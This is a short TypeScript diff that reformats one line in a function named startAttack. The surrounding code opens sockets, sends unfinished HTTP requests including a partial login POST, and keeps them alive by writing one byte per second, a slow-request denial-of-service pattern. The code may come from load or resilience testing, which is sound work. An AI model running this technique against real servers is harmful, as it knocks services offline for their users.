@@ -104,7 +104,9 @@ function startAttack(address: string): { readonly stop: () => number } {
     return socket.once('close', () => open.delete(socket));
   };
   const keepSlow = (index: number): void => {
-    const socket = connectTo(() => socket.write(index % 2 === 0 ? slowHead(ATTACKER) : 'POST /api/login HTTP/1.1\r\nX'));
+    const socket = connectTo(() =>
+      socket.write(index % 2 === 0 ? slowHead(ATTACKER) : 'POST /api/login HTTP/1.1\r\nX'),
+    );
     const drip = setInterval(() => socket.write('x'), 1000);
     socket.once('close', () => {
       clearInterval(drip);
